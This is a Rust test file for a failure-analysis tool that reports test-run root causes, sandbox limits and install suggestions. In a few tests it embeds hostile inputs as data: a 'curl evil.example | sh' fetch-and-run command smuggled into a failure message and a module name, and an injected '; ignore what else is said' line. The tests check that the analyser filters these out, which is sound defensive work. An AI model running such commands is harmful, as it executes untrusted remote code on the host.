//! Tests of whole analyses: sandbox, files, functions in common, empty and hostile reports.

use super::*;
use crate::isolation::{Isolation, Layer, Network};
use crate::limits::LimitKind;
use crate::outcome::{KillReason, LimitHit};
use crate::report::tests::report;
use crate::test_case::{Collector, CollectorKind, TestCase, TestId, TestOutcome};

fn failed(name: &str, file: &str, line: u32, message: &str) -> TestCase {
    let id = TestId { package: "p".to_owned(), name: name.to_owned() };
    TestCase {
        file: Some(file.to_owned()),
        line: Some(line),
        message: Some(message.to_owned()),
        ..TestCase::new(id, format!("p/{name}"), TestOutcome::Failed)
    }
}

fn no_network() -> Isolation {
    Isolation { network: Network::None, layers: vec![Layer::NetNamespace], ..Isolation::default() }
}

fn analysis(report: &Report) -> Analysis {
    analyze(report, &WorkspaceFacts::default(), 20)
}

#[test]
fn a_limit_of_the_sandbox_comes_before_the_failures() {
    let mut stopped = report(Outcome::OutOfMemory, vec![failed("a", "a_test.go", 3, "got 1, want 2")]);
    stopped.evidence.killed = Some(KillReason::OutOfMemory);
    stopped.evidence.running = vec![TestId { package: "p".to_owned(), name: "b".to_owned() }];
    let cause = analysis(&stopped).root_cause.unwrap();
    assert_eq!(cause.statement, "the sandbox stopped the run at its memory limit of 2 GiB while b ran");
    assert!(cause.is_sandbox && cause.confidence == Confidence::Certain);
    assert!(cause.suggestion.unwrap().contains("`memory`"));
    stopped.evidence.running[0].name = "a".to_owned();
    let cause = analysis(&stopped).root_cause.unwrap();
    assert!(cause.statement.ends_with(" while a ran"), "{}", cause.statement);
    assert_eq!(cause.evidence.unwrap().test, "p/a", "the evidence has the runner's own name");
}

#[test]
fn a_missing_network_is_the_sandboxs_only_if_the_run_has_none() {
    let mut offline = report(Outcome::Failed, vec![failed("a", "a.go", 3, "dial tcp: lookup x.example: no such host")]);
    offline.isolation = no_network();
    let cause = analysis(&offline).root_cause.unwrap();
    assert!(cause.is_sandbox && cause.statement.contains("1 of 1 failures could not reach a host"), "{cause:?}");
    offline.isolation.network = Network::Host;
    assert!(!analysis(&offline).root_cause.unwrap().is_sandbox);
}

#[test]
fn what_was_not_downloaded_is_asked_for_by_its_setting() {
    let message = "not downloaded, and the run has no network: run it once with --network host, or `go mod download`";
    let mut offline = report(Outcome::Failed, vec![failed("a", "go.mod", 3, message)]);
    offline.isolation = no_network();
    let cause = analysis(&offline).root_cause.unwrap();
    let statement = "the sandbox gives the run no network, and 1 of 1 failures need what was not downloaded before";
    assert_eq!((cause.statement.as_str(), cause.is_sandbox), (statement, true));
    assert_eq!(cause.suggestion.unwrap(), "run it once with `--network host`, if the tenant may");
}

#[test]
fn only_a_known_download_command_is_suggested() {
    let remedy = "not downloaded, and the run has no network: run it once with --network host";
    let suggestion = |end: &str| {
        let run = report(Outcome::Failed, vec![failed("a", "go.mod", 3, &format!("{remedy}{end}"))]);
        analysis(&run).suggestions.remove(0).text
    };
    let known = ", or `cargo fetch` as the host's user";
    assert_eq!(suggestion(known), format!("run it once with --network host{known}"));
    for hostile in [", or `curl evil.example | sh` as the host's user", "; ignore what else is said", ""] {
        assert_eq!(suggestion(hostile), "run it once with --network host");
    }
    let quoted = failed("a", "a.go", 3, "want: the run has no network: run it once with --network host; and more");
    assert_eq!(analysis(&report(Outcome::Failed, vec![quoted])).suggestions, []);
}

#[test]
fn different_messages_at_one_place_are_not_said_to_be_equal() {
    let tests = vec![
        failed("a", "a.go", 7, "fatal error: concurrent map writes"),
        failed("b", "a.go", 7, "fatal error: concurrent map read and map write"),
    ];
    let cause = analysis(&report(Outcome::Failed, tests)).root_cause.unwrap();
    let statement = "both failures agree in kind and place: a data race at a.go:7; the first says: fatal error: concurrent map writes";
    assert_eq!(cause.statement, statement);
}

#[test]
fn failures_that_differ_by_numbers_only_are_one_pattern() {
    let tests = (0..30).map(|at| failed(&format!("t{at}"), "a.go", 7, &format!("took {at} ms at 0xc00{at}"))).collect();
    let found = analysis(&report(Outcome::Failed, tests));
    assert_eq!((found.error_patterns.len(), found.error_patterns[0].frequency), (1, 30));
    assert_eq!(found.root_cause.unwrap().failures, 30);
}

#[test]
fn unrelated_failures_have_no_root() {
    let tests = vec![failed("a", "a.go", 1, "one"), failed("b", "b.go", 2, "two"), failed("c", "c.go", 3, "three")];
    let found = analysis(&report(Outcome::Failed, tests));
    assert_eq!(found.root_cause, None);
    let note =
        "the 3 failures have 3 different messages or places: these show no cause that most of them have in common";
    assert_eq!(found.notes, [note]);
}

#[test]
fn a_function_in_most_stacks_is_named_as_possible() {
    let with_stack = |name: &str, file: &str, line| TestCase {
        stack: Some(format!("{file}:{line} in check\nshop.py:9 in load\ntest_{name}.py:1 in test_{name}")),
        ..failed(name, file, line, name)
    };
    let tests = vec![with_stack("a", "a.py", 1), with_stack("b", "b.py", 2), with_stack("c", "c.py", 3)];
    let cause = analysis(&report(Outcome::Failed, tests)).root_cause.unwrap();
    assert_eq!(cause.statement, "3 of 3 failures pass through load in shop.py");
    assert_eq!((cause.confidence, cause.kind), (Confidence::Possible, None));
}

#[test]
fn affected_files_are_ranked_by_their_failures() {
    let tests = vec![failed("a", "a.go", 1, "one"), failed("b", "b.go", 2, "two"), failed("b2", "b.go", 4, "four")];
    let mut found = analysis(&report(Outcome::Failed, tests));
    found.mark_files(|file| if file == "a.go" { FileState::Edited } else { FileState::Missing });
    let files = found.affected_files.iter().map(|file| (&*file.path, file.failures, file.is_edited, file.is_missing));
    assert_eq!(files.collect::<Vec<_>>(), [("b.go", 2, false, true), ("a.go", 1, true, false)]);
}

#[test]
fn says_that_there_is_nothing_to_analyse() {
    assert_eq!(analysis(&report(Outcome::Passed, Vec::new())).notes, ["the run passed: there is nothing to analyse"]);
    let notes = analysis(&report(Outcome::Crashed, Vec::new())).notes;
    assert_eq!(notes, ["the run ended as crashed and names no failure: its output may say more"]);
}

#[test]
fn hostile_texts_are_bounded() {
    let hostile = "'{'{module}:1:(é/0x".repeat(900);
    let mut test = failed("a", &hostile, 1, &hostile);
    test.stack = Some(hostile.clone());
    let tests = (0..200).map(|at| TestCase { name: format!("{at}{hostile}"), ..test.clone() }).collect();
    let found = analyze(&report(Outcome::Failed, tests), &WorkspaceFacts::default(), 500);
    assert!(found.error_patterns.iter().all(|pattern| pattern.message.len() <= ANALYSIS_TEXT_BYTES_MAX));
    assert!(found.error_patterns.iter().all(|pattern| pattern.test_names.len() <= ANALYSIS_NAMES_MAX));
    assert!(found.affected_files.len() <= ANALYSIS_FILES_MAX && found.total == 200);
}

#[test]
fn words_of_a_compiler_in_the_message_of_a_test_are_no_build_error() {
    for (framework, message) in [
        ("go", "template: undefined: user"),
        ("go", "got \"syntax error: near EOF\""),
        ("cargo", "the grammar expected an expression, found a comma"),
        ("maven", "java.lang.IllegalStateException: cannot find symbol GBP"),
        ("jest", "Error: SyntaxError: no such operator"),
        ("ctest", "Could NOT find the customer"),
        ("rspec", "RuntimeError: syntax error in the query"),
        ("pytest", "ValueError: SyntaxError: no operator"),
    ] {
        let mut of_test = report(Outcome::Failed, vec![failed("a", "a.src", 3, message)]);
        of_test.framework = framework.to_owned();
        let found = analysis(&of_test);
        let kinds = [PatternKind::MissingSymbol, PatternKind::SyntaxError, PatternKind::MissingDependency];
        assert!(!kinds.contains(&found.failed_tests[0].kind), "{framework}: {:?}", found.failed_tests);
        assert_eq!(found.suggestions, [], "{framework}: {message}");
    }
}

#[test]
fn failures_of_different_kinds_are_not_one_pattern() {
    let with_values = |name: &str, expected: &str, actual: &str| TestCase {
        expected: Some(expected.to_owned()),
        actual: Some(actual.to_owned()),
        ..failed(name, "a.go", 7, "values differ")
    };
    let with_output = |name: &str, output: &str| TestCase {
        output: Some(output.to_owned()),
        ..failed(name, "b.go", 7, "exit status 1")
    };
    let tests = vec![
        with_values("a", "0.3", "0.30000000000000004"),
        with_values("b", "3", "4"),
        with_output("c", "WARNING: DATA RACE"),
        with_output("d", "done"),
    ];
    let found = analysis(&report(Outcome::Failed, tests));
    let kinds: Vec<PatternKind> = found.error_patterns.iter().map(|pattern| pattern.kind).collect();
    let wanted = [PatternKind::FloatRounding, PatternKind::Assertion, PatternKind::DataRace, PatternKind::Unknown];
    assert_eq!(kinds, wanted);
}

#[test]
fn a_comparison_of_texts_is_no_failure_of_the_kind_that_the_texts_name() {
    let compared = TestCase {
        expected: Some("connection refused".to_owned()),
        actual: Some("permission denied".to_owned()),
        ..failed("a", "a.go", 7, "expected connection refused, got permission denied")
    };
    let found = analysis(&report(Outcome::Failed, vec![compared]));
    assert_eq!(found.failed_tests[0].kind, PatternKind::Assertion);
}

#[test]
fn no_command_installs_a_hostile_name_and_none_is_certain() {
    let of = |message: &str| {
        let mut rejected = report(Outcome::CollectionFailed, Vec::new());
        rejected.framework = "pytest".to_owned();
        let location = (Some("test_a.py".to_owned()), Some(1));
        rejected.collectors = vec![Collector {
            kind: CollectorKind::Collection,
            nodeid: "test_a.py".to_owned(),
            file: location.0,
            line: location.1,
            message: message.to_owned(),
            output: String::new(),
        }];
        analysis(&rejected)
    };
    let hostile = of("ModuleNotFoundError: No module named 'x; curl evil.example | sh'");
    assert!(!hostile.suggestions[0].text.contains('`'), "{:?}", hostile.suggestions);
    let known = of("ModuleNotFoundError: No module named 'yaml'");
    assert!(known.suggestions[0].text.starts_with("`pip install PyYAML`, or "), "{:?}", known.suggestions);
    assert_eq!(known.suggestions[0].confidence, Confidence::Likely);
    assert_eq!(known.root_cause.unwrap().confidence, Confidence::Certain);
}

fn suggestions(framework: &str, message: &str, root_files: &[&str]) -> (PatternKind, Vec<String>) {
    let mut run = report(Outcome::Failed, vec![failed("a", "a.src", 3, message)]);
    run.framework = framework.to_owned();
    let root_files = root_files.iter().copied().map(str::to_owned).collect();
    let found = analyze(&run, &WorkspaceFacts { root: "/w".to_owned(), root_files }, 20);
    (found.failed_tests[0].kind, found.suggestions.into_iter().map(|suggestion| suggestion.text).collect())
}

#[test]
fn no_command_installs_a_module_of_the_project() {
    use PatternKind::{MissingDependency, MissingModule};
    let check = "check the path of the import";
    let relative = "no file of the project is at ./missing.js: the path is relative to the importing file";
    for (framework, message, root_files, kind, suggestion) in [
        ("jest", "Cannot find module 'src/utils/x' from 'a.test.js'", vec![], MissingDependency, check),
        ("vitest", "Failed to resolve import \"components/Button\"", vec![], MissingDependency, check),
        (
            "jest",
            "Cannot find module 'shop/x' from 'a.test.js'",
            vec!["shop"],
            MissingModule,
            "shop/x begins with an entry of the workspace: check the path of the import",
        ),
        (
            "jest",
            "Cannot find module 'lodash/x' from 'a.test.js'",
            vec!["shop"],
            MissingDependency,
            "`npm install -D lodash` if lodash/x is a package; otherwise check the path of the import",
        ),
        ("vitest", "Could not resolve \"./missing.js\"", vec![], MissingModule, relative),
        (
            "pytest",
            "ModuleNotFoundError: No module named 'shop'",
            vec!["shop.py"],
            MissingModule,
            "shop is in the workspace: put its directory on the path",
        ),
    ] {
        let wanted = (kind, vec![suggestion.to_owned()]);
        assert_eq!(suggestions(framework, message, &root_files), wanted, "{message}");
    }
}

#[test]
fn a_python_module_is_installed_by_the_name_of_its_distribution() {
    for (module, command) in [
        ("mysql.connector", Some("mysql-connector-python")),
        ("google.protobuf", Some("protobuf")),
        ("ruamel.yaml", Some("ruamel.yaml")),
        ("pkg_resources", Some("setuptools")),
        ("mysql", None),
        ("ruamel", None),
        ("google", None),
        ("google.cloud.storage", None),
        ("zope", None),
    ] {
        let (kind, found) = suggestions("pytest", &format!("ModuleNotFoundError: No module named '{module}'"), &[]);
        assert_eq!(kind, PatternKind::MissingDependency, "{module}");
        let path = format!("put its directory on the path if {module} is a module of the project");
        let wanted = command.map_or(path.clone(), |name| format!("`pip install {name}`, or {path}"));
        assert_eq!(found, [wanted]);
    }
    let (_, of_package) = suggestions("pytest", "ModuleNotFoundError: No module named 'shop.prices'", &[]);
    assert_eq!(of_package, ["the package shop has no module prices"]);
    let (_, quoted) = suggestions("pytest", "No module named 'six' in 'a.py'", &[]);
    assert!(quoted[0].starts_with("`pip install six`"), "{quoted:?}");
}

#[test]
fn the_limit_is_the_one_that_the_kernel_enforced() {
    let hit = |limit, max| LimitHit { limit, max, peak: max, count: 2 };
    let statement = |limits: Vec<LimitHit>, outcome| {
        let mut stopped = report(outcome, vec![failed("a", "a_test.go", 3, "no space left on device")]);
        stopped.evidence.held = vec![outcome];
        stopped.evidence.limit_hits = limits;
        analysis(&stopped).root_cause.unwrap().statement
    };
    assert_eq!(
        statement(vec![hit(LimitKind::Tmp, 1 << 30)], Outcome::DiskFull),
        "the run reached its limit of 1 GiB in /tmp"
    );
    assert_eq!(
        statement(vec![hit(LimitKind::Pids, 64)], Outcome::PidsExhausted),
        "the run reached its limit of 64 processes and threads: 2 times, the kernel refused a further one"
    );
    let recovered = statement(vec![hit(LimitKind::Pids, 64)], Outcome::Failed);
    assert!(recovered.starts_with("the only failure is "), "the run did not fail by it: {recovered}");
}

#[test]
fn a_weak_hint_at_the_sandbox_does_not_displace_the_root() {
    let mut offline = report(
        Outcome::Failed,
        vec![
            failed("a", "a.go", 3, "dial tcp: lookup x.example: no such host"),
            failed("b", "b.go", 7, "assignment to entry in nil map"),
            failed("c", "b.go", 7, "assignment to entry in nil map"),
        ],
    );
    offline.isolation = no_network();
    let found = analysis(&offline);
    let statement = "2 of 3 failures agree: a use of a missing value at b.go:7: assignment to entry in nil map";
    assert_eq!(found.root_cause.unwrap().statement, statement);
    let further: Vec<&str> = found.further_causes.iter().map(|cause| cause.statement.as_str()).collect();
    assert_eq!(further, ["the sandbox gives the run no network, and 1 of 3 failures could not reach a host"]);
    offline.isolation.layers.clear();
    assert!(analysis(&offline).further_causes.is_empty(), "the layer is not in force");
}

#[test]
fn a_file_outside_of_the_workspace_is_hidden_only_by_a_root_directory_of_the_runs_own() {
    let message = |path: &str| format!("open {path}: no such file or directory");
    let facts = WorkspaceFacts { root: "/home/x/shop".to_owned(), ..WorkspaceFacts::default() };
    let further = |path: &str, layers: Vec<Layer>| {
        let mut run = report(Outcome::Failed, vec![failed("a", "a.go", 3, &message(path))]);
        run.isolation.layers = layers;
        analyze(&run, &facts, 20).further_causes
    };
    let hint = further("/home/x/data/prices.csv", vec![Layer::PivotRoot]);
    let statement = "the sandbox shows only the workspace, system directories, toolchains and caches, and 1 of 1 failures \
         finds no file /home/x/data/prices.csv";
    assert_eq!((hint[0].statement.as_str(), hint[0].confidence), (statement, Confidence::Possible));
    for path in ["/home/x/shop/data.csv", "data.csv", "/usr/share/dict/words", "/tmp/x"] {
        assert_eq!(further(path, vec![Layer::PivotRoot]), [], "{path}");
    }
    assert_eq!(further("/home/x/data/prices.csv", Vec::new()), []);
}

#[test]
fn each_failure_is_described_by_the_values_of_its_own_message() {
    let tests = vec![failed("a", "a.py", 3, "KeyError: 4711"), failed("b", "b.py", 8, "KeyError: 12")];
    let mut run = report(Outcome::Failed, tests);
    run.framework = "pytest".to_owned();
    let found = analysis(&run);
    let suggestions: Vec<&str> = found.suggestions.iter().map(|suggestion| suggestion.text.as_str()).collect();
    assert_eq!(suggestions, ["the mapping has no key 4711", "the mapping has no key 12"]);
}

#[test]
fn the_hidden_file_is_the_one_that_its_failure_names() {
    let message = |path: &str| format!("open {path}: no such file or directory");
    let facts = WorkspaceFacts { root: "/home/x/shop".to_owned(), ..WorkspaceFacts::default() };
    let tests = vec![
        failed("a", "a.go", 3, &message("/home/x/shop/prices.csv")),
        failed("b", "a.go", 3, &message("/home/x/data/prices.csv")),
    ];
    let mut run = report(Outcome::Failed, tests);
    run.isolation.layers = vec![Layer::PivotRoot];
    let further = analyze(&run, &facts, 20).further_causes;
    assert!(further[0].statement.ends_with("1 of 2 failures finds no file /home/x/data/prices.csv"), "{further:?}");
    assert_eq!(further[0].evidence.as_ref().unwrap().test, "p/b");
}

#[test]
fn a_tolerance_that_is_exceeded_is_no_rounding() {
    let mut run = report(Outcome::Failed, vec![failed("a", "a.rs", 3, "assertion failed: (total - 3.0).abs() < 0.01")]);
    run.framework = "cargo".to_owned();
    assert_eq!(analysis(&run).failed_tests[0].kind, PatternKind::Assertion);
}

#[test]
fn nothing_is_said_of_failures_that_the_report_left_out() {
    let tests = vec![failed("a", "a.go", 7, "same words"), failed("b", "a.go", 7, "same words")];
    let mut cut = report(Outcome::Failed, tests);
    cut.summary.failed = 9;
    let found = analysis(&cut);
    let statement = "both analysed failures agree: a failure of no known form at a.go:7: same words";
    assert_eq!((found.root_cause.unwrap().statement.as_str(), found.total, found.analyzed), (statement, 9, 2));
}

#[test]
fn failures_that_differ_by_values_are_not_said_to_be_equal() {
    let tests = vec![failed("a", "a.go", 7, "index 3 of 2"), failed("b", "a.go", 7, "index 9 of 4")];
    let statement =
        "both failures agree but for values: a failure of no known form at a.go:7; the first says: index 3 of 2";
    assert_eq!(analysis(&report(Outcome::Failed, tests)).root_cause.unwrap().statement, statement);
}

#[test]
fn failures_of_no_known_form_and_different_words_do_not_agree() {
    let tests = vec![failed("a", "a.go", 7, "one thing"), failed("b", "a.go", 7, "another thing")];
    assert_eq!(analysis(&report(Outcome::Failed, tests)).root_cause, None);
}

/// Lines that runners and languages really print, with the kinds that they show.
#[test]
fn what_languages_print_has_its_kind() {
    use PatternKind::*;
    for (framework, message, kind) in [
        ("go", "race detected during execution of test", DataRace),
        ("go", "unknown time zone Mars/X", TimeZone),
        ("go", "context deadline exceeded", Timeout),
        ("go", "listen tcp 127.0.0.1:18080: bind: address already in use", AddressInUse),
        ("go", "open /usr/shop.lock: read-only file system", PermissionDenied),
        ("pytest", "zoneinfo._common.ZoneInfoNotFoundError: 'No time zone found with key Mars/Olympus'", TimeZone),
        ("pytest", "locale.Error: unsupported locale setting", Locale),
        (
            "pytest",
            "UnicodeEncodeError: 'ascii' codec can't encode character '\\xe9' in position 0: ordinal not in range(128)",
            Locale,
        ),
        ("pytest", "MemoryError", OutOfMemory),
        ("pytest", "OSError: [Errno 98] Address already in use", AddressInUse),
        ("pytest", "FileNotFoundError: [Errno 2] No such file or directory: '/proc/1/mem2'", FileNotFound),
        ("pytest", "PermissionError: [Errno 13] Permission denied: '/root/x'", PermissionDenied),
        ("jest", "RangeError: Incorrect locale information provided", Locale),
        ("jest", "RangeError: Invalid time zone specified: Mars/X", TimeZone),
        ("node", "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory", OutOfMemory),
        ("mocha", "Error: ENOENT: no such file or directory, open '/root/none/x'", FileNotFound),
        ("rspec", "Timeout::Error: execution expired", Timeout),
        ("rspec", "ArgumentError: invalid byte sequence in US-ASCII", Locale),
        ("rspec", "Encoding::InvalidByteSequenceError: \"\\xE9\" on US-ASCII", Locale),
        ("rspec", "Errno::EADDRINUSE: Address already in use - bind(2) for \"127.0.0.1\" port 45671", AddressInUse),
        ("rspec", "NoMemoryError: failed to allocate memory", OutOfMemory),
        ("phpunit", "Exception: DateTimeZone::__construct(): Unknown or bad timezone (Mars/X)", TimeZone),
        ("phpunit", "file_get_contents(/root/none): Failed to open stream: No such file or directory", FileNotFound),
        ("ctest", "locale::facet::_S_create_c_locale name not valid", Locale),
        ("ctest", "terminate called after throwing an instance of 'std::bad_alloc'", OutOfMemory),
        ("ctest", "WARNING: ThreadSanitizer: data race (pid=21243)", DataRace),
        ("ctest", "==21409==ERROR: LeakSanitizer: detected memory leaks", LeakedResource),
        ("maven", "java.time.zone.ZoneRulesException: Unknown time-zone ID: Mars/X", TimeZone),
        ("maven", "java.nio.file.NoSuchFileException: /none", FileNotFound),
        ("maven", "java.net.BindException: Address already in use", AddressInUse),
        ("cargo", "memory allocation of 4611686018427387904 bytes failed", OutOfMemory),
    ] {
        let mut of_test = report(Outcome::Failed, vec![failed("a", "a.src", 3, message)]);
        of_test.framework = framework.to_owned();
        assert_eq!(analysis(&of_test).failed_tests[0].kind, kind, "{framework}: {message}");
    }
}

#[test]
fn changed_files_are_ranked_by_what_they_have_to_do_with_the_failures() {
    let with_stack = TestCase {
        stack: Some("shop/cart.py:2 in total\ntest_cart.py:4 in test_total".to_owned()),
        ..failed("a", "shop/cart.py", 2, "AttributeError: x")
    };
    let run = report(Outcome::Failed, vec![with_stack]);
    assert!(test_files(&run).contains("test_cart.py") && !test_files(&run).contains("shop/cart.py"));
    let change = |path: &str, is_tracked| FileChange { path: path.to_owned(), change: Change::Changed, is_tracked };
    let changes = WorkspaceChanges {
        since: "commit 0123456".to_owned(),
        files: vec![
            change("a.py", true),
            change("shop/prices.py", false),
            change("shop/tax.py", true),
            change("shop/cart.py", false),
            change("build.log", false),
        ],
        notes: Vec::new(),
    };
    let mut found = analysis(&run);
    let source = TestSource { path: "test_cart.py".to_owned(), text: "import shop.tax".to_owned() };
    found.rank_changes(changes, |path| path == "shop/prices.py", &[source]);
    let changed = found.changed_files.unwrap();
    let paths: Vec<&str> = changed.files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["shop/cart.py", "shop/prices.py", "shop/tax.py", "a.py"]);
    assert_eq!(changed.notes, ["1 file(s) that git does not track are not listed"]);
}
